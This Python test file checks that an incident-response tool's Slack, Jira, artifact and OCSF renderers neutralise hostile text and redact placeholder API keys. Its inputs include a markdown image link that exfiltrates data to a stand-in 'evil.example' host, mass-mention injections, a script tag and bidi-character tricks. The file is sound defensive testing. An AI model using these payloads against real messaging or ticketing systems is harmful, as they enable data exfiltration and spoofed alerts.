"""A hostile corpus pushed through every renderer irflow has: Slack/Jira summaries and blocks, the Prefect
artifact, the Jira issue fields (ADF and wiki), OCSF export, the incident JSON. No raw secret, no live
mention, no clickable link may come out of any of them."""

from __future__ import annotations

import json
import secrets
import string
from typing import Any

import pytest

from irflow import render
from irflow.redaction import redact


def _tok(n: int) -> str:
    return "".join(secrets.choice(string.ascii_letters + string.digits) for _ in range(n))


SECRETS = [f"sk-proj-{_tok(40)}", f"sk-ant-api03-{_tok(50)}", "AKIA" + _tok(16).upper(), f"ghp_{_tok(36)}",
           f"xoxb-{_tok(10)}-{_tok(12)}", f"AIza{_tok(35)}", f"eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOi{_tok(20)}.{_tok(43)}"]
HOSTILE = [
    "<!channel> <!here> <!everyone> <@U0ADMIN> <#C0GENERAL|general> <https://evil.example/x|click>",
    "![x](https://evil.example/exfil?d=secret) [text](http://evil.example)",
    "[click|https://evil.example/jira] !https://evil.example/a.png! {code}x{code} {noformat} [~accountid:123]",
    "<script>alert(1)</script> \x1b[31mred\x1b[0m \u202eevil\u202c zero\u200bwidth <!chan\u200bnel>",
    "``` break out of the code block ``` ~~~",
    "x" * 200_000,
    "\udcff lone surrogate",
    " ".join(SECRETS),
]
LIVE = ["<!channel>", "<!here>", "<!everyone>", "<@U0ADMIN>", "<#C0", "<https://", "](http", "|https://",
        "!https://", "{code}", "{noformat}", "<script>", "\x1b[", "\u202e", "\u200b", "https://evil", "http://evil"]


def _incident(text: str) -> dict[str, Any]:
    return {"id": "inc-1", "title": text, "status": "open", "severity": "high", "category": "prompt_injection",
            "owasp": ["LLM01"], "atlas": ["AML.T0051.000"], "alert_count": 3, "enrichment": None,
            "actor": {"user": text[:300], "api_key": SECRETS[0], "team": None, "session": None, "ip": None}}


def _actions(text: str) -> list[dict[str, Any]]:
    return [{"name": "users.suspend", "target": f"local/user:{text[:200]}", "status": "done"}]


def _renderings(text: str) -> dict[str, str]:
    incident, actions = _incident(text), _actions(text)
    out = {
        "summary_text": render.summary_text(incident, actions, text),
        "summary_blocks": json.dumps(render.summary_blocks(incident, actions, text), ensure_ascii=False),
        "heading": render.incident_heading(incident),
        "artifact": render.artifact_markdown(incident | {"actions": actions}),
    }
    from irflow.connectors.jira.client import adf_document, wiki_noformat

    out["jira_adf"] = json.dumps(adf_document(redact(text)), ensure_ascii=False)
    wiki = wiki_noformat(redact(text))
    assert wiki.count("{noformat}") == 2, "the text closed irflow's own {noformat} block"
    out["jira_wiki"] = wiki.replace("{noformat}", "")  # irflow's own wrapper, checked above
    from irflow.models import Actor, Alert, Category, Severity
    from irflow.normalize.ocsf_export import to_ocsf

    alert = Alert(source="irflow", title=text[:900] or "t", category=Category.prompt_injection,
                  severity=Severity.high, evidence=text, actor=Actor(user=text[:300] or None, api_key=SECRETS[1]))
    out["ocsf"] = json.dumps(to_ocsf(alert), ensure_ascii=False)
    return out


@pytest.mark.parametrize("text", HOSTILE, ids=range(len(HOSTILE)))
def test_no_renderer_lets_anything_live_out(text: str) -> None:
    for name, rendered in _renderings(text).items():
        leaks = [s for s in SECRETS if s in rendered] + [m for m in LIVE if m in rendered]
        assert leaks == [], f"{name} leaked {leaks[:3]}"
        assert len(rendered) < 60_000, f"{name} grew to {len(rendered)} characters"
